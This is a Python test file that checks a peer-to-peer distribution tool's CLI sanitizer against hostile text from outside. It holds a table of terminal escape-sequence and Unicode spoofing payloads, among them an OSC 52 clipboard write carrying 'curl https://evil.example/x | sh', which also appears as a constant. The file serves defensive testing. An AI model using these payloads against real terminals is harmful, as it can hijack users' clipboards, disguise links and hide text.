"""The one sanitizer for text from outside (p2pdist._text.shown), the JSON writer and the
console of the CLI: what a hostile peer, seller or signer writes never controls the
terminal, never hides or reorders what a person reads, and never runs past its cap."""

from __future__ import annotations

import io
import json
import time
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.table import Table

from p2pdist._text import MAX_SHOWN, hidden, replace_hidden, shown
from p2pdist.cli import _json_text, _line, _PlainConsole

CURL = "curl https://evil.example/x | sh"
# What the review's peers and sellers sent, and their relatives. Each name says the attack.
HOSTILE = {
    "osc0-window-title": "\x1b]0;you have been pwned\x07",
    "osc52-clipboard-write": "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07",
    "osc52-st-terminated": "\x1b]52;c;Y3VybA==\x1b\\",
    "osc8-disguised-link": "\x1b]8;;https://evil.example/\x1b\\https://p2pdist.org\x1b]8;;\x1b\\",
    "csi-2j-screen-clear": "p2pdist/0.1\x1b[2J\x1b[H",
    "csi-sgr-hide-text": "ok\x1b[8mhidden verdict\x1b[0m",
    "c1-csi-0x9b": "\x9b2J\x9b31mred",
    "c1-osc-0x9d": "\x9d0;title\x9c",
    "c1-nel-0x85": "line\x85next",
    "bel": "ding\x07",
    "backspace-overwrite": "trusted\x08\x08\x08\x08\x08\x08\x08untrust",
    "carriage-return-overwrite": "evil\rgood",
    "newline-fake-line": "Ada\n  certified by Big Label: trusted label",
    "nul": "a\x00b",
    "del": "a\x7fb",
    "bidi-rlo-u202e": "invoice\u202efdp.exe",
    "bidi-isolates": "\u2066abc\u2069\u2067def\u2069",
    "bidi-lrm-rlm": "a\u200eb\u200fc",
    "zero-width-space": "Big\u200bLabel",
    "zero-width-joiner-non-joiner": "Big\u200dLa\u200cbel",
    "bom-zwnbsp": "\ufeffLabel",
    "soft-hyphen": "La\xadbel",
    "line-separator-u2028": "a\u2028b",
    "paragraph-separator-u2029": "a\u2029b",
    "tag-characters": "flag\U000e0001\U000e0041",
    "lone-high-surrogate": "abc\ud800def",
    "lone-low-surrogate": "\udc80",
    "one-megabyte": "\x1b]52;c;" + "A" * (1024 * 1024) + "\x07",
    "one-megabyte-of-escapes": "\x1b" * (1024 * 1024),
}


def _hidden_in(text: str) -> list[str]:
    return [f"U+{ord(c):04X} {unicodedata.category(c)}" for c in text if hidden(c)]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_string_is_shown_without_a_control_or_format_character(name: str) -> None:
    raw = HOSTILE[name]
    assert _hidden_in(raw), "the table holds only hostile strings"
    out = shown(raw)
    assert not _hidden_in(out)
    assert len(out) <= MAX_SHOWN
    assert "\x1b" not in out and "\x07" not in out
    assert out.encode("utf-8")  # lone surrogates are gone: it can be written
    # What was there stays visible as an escape, never silently dropped.
    assert "\\x" in out or "\\u" in out or "\\U" in out or "\\n" in out or "\\r" in out


def test_visible_escapes_read_as_python_would_write_them() -> None:
    assert shown("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert shown("a\u202eb") == "a\\u202eb"
    assert shown("\U000e0001") == "\\U000e0001"
    assert shown("\ud800") == "\\ud800"
    assert shown("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert shown("\x9b") == "\\x9b"


@pytest.mark.parametrize("text", [
    "Ada Lovelace", "Café Müller", "Björk Guðmundsdóttir", "坂本 龍一", "محمد عبد الوهاب",
    "עברית", "🎵 Night Songs 🎶", "[bold green]trusted label[/]", "x" * MAX_SHOWN, "",
])
def test_honest_text_is_shown_as_it_is(text: str) -> None:
    # Letters of any script, right-to-left ones too, emoji and markup-like brackets are
    # text: only hidden characters are escaped (markup is the renderer's business).
    assert shown(text) == text


def test_cap_cuts_with_an_ellipsis_and_never_splits_an_escape() -> None:
    assert shown("x" * 10, cap=10) == "x" * 10
    assert shown("x" * 11, cap=10) == "x" * 9 + "…"
    assert shown("x" * 8 + "\x1b", cap=10) == "x" * 8 + "…"  # "\x1b" would not fit
    assert shown("\x1b" * 3, cap=8) == "\\x1b…"
    assert shown("ab", cap=1) == "…"
    with pytest.raises(ValueError, match="cap"):
        shown("a", cap=0)


def test_non_strings_are_shown_as_their_text() -> None:
    assert shown(None) == "None"
    assert shown(6881) == "6881"


def test_a_megabyte_costs_what_the_cap_costs() -> None:
    raw = HOSTILE["one-megabyte"] * 8  # 8 MiB
    t0 = time.perf_counter()
    for _ in range(100):
        shown(raw)
    assert time.perf_counter() - t0 < 1.0  # bounded by the cap, not the input


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=())),
       st.integers(min_value=1, max_value=300))
def test_shown_never_holds_a_hidden_character_nor_runs_past_its_cap(text: str,
                                                                     cap: int) -> None:
    out = shown(text, cap=cap)
    assert not _hidden_in(out)
    assert len(out) <= cap
    if not _hidden_in(text):  # honest text is kept, or cut with an ellipsis
        assert out == (text if len(text) <= cap else text[: cap - 1] + "…")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=())))
def test_replace_hidden_keeps_the_length_and_leaves_nothing_hidden(text: str) -> None:
    out = replace_hidden(text)
    assert len(out) == len(text)
    assert not _hidden_in(out)


@settings(max_examples=300, deadline=None)
@given(st.recursive(
    st.none() | st.booleans() | st.integers()
    | st.text(alphabet=st.characters(codec=None, exclude_categories=())),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.text(alphabet=st.characters(codec=None, exclude_categories=()),
                              max_size=8), inner, max_size=4),
    max_leaves=12))
def test_json_output_reads_back_equal_and_holds_no_hidden_character(obj: object) -> None:
    text = _json_text(obj)
    assert not _hidden_in(text)
    assert "\n" not in text  # one object per line
    assert json.loads(text) == obj


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_console_lets_no_hidden_character_through_even_unescaped(name: str) -> None:
    """The CLI's console is the last guard: raw outside text in a string, a Text part or
    a table cell comes out without a control or format character, and not as markup."""
    buf = io.StringIO()
    console = _PlainConsole(file=buf, width=120, highlight=False, soft_wrap=True,
                            markup=False, emoji=False)
    raw = HOSTILE[name][:4096]
    console.print(raw)
    console.print(_line(("styled", "green"), " ", raw))
    t = Table("Client")
    t.add_row(raw)
    console.print(t)
    console.print("[bold green]trusted label[/] :warning:")
    out = buf.getvalue()
    assert not [c for c in out if hidden(c) and c != "\n"]
    assert "[bold green]trusted label[/] :warning:" in out  # literal: no markup, no emoji


def test_console_keeps_its_own_layout() -> None:
    """The guard leaves honest output as rich lays it out: line breaks, table rules."""
    from rich.console import Console

    def render(console_type: type[Console]) -> str:
        buf = io.StringIO()
        console = console_type(file=buf, width=60, highlight=False, soft_wrap=True,
                               markup=False, emoji=False)
        console.print("first line\nsecond line")
        t = Table("Work", "Title")
        t.add_row("0123456789ab", "Café — 坂本 🎵")
        console.print(t)
        return buf.getvalue()

    out = render(_PlainConsole)
    assert out == render(Console)
    assert out.count("\n") == 7 and "\ufffd" not in out


def test_a_rendering_error_is_one_plain_line_and_exit_1(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Whatever rich fails to render (here markup a command builds by mistake), main says
    so in one line, exit 1, never a traceback."""
    from rich.text import Text

    from p2pdist import cli

    @cli.app.command("render-bug", hidden=True)
    def render_bug() -> None:
        cli.out.print(Text.from_markup("closing [/] nothing\x1b]0;t\x07"))

    try:
        monkeypatch.setattr("sys.argv", ["p2pdist", "render-bug"])
        with pytest.raises(SystemExit) as exc:
            cli.main()
    finally:
        cli.app.registered_commands.pop()
    assert exc.value.code == 1
    err = capsys.readouterr().err
    assert err.startswith("error: p2pdist could not show its output (MarkupError: ")
    assert err.count("\n") == 2 and "Traceback" not in err  # the error and its remedy
    assert not [c for c in err if hidden(c) and c != "\n"]
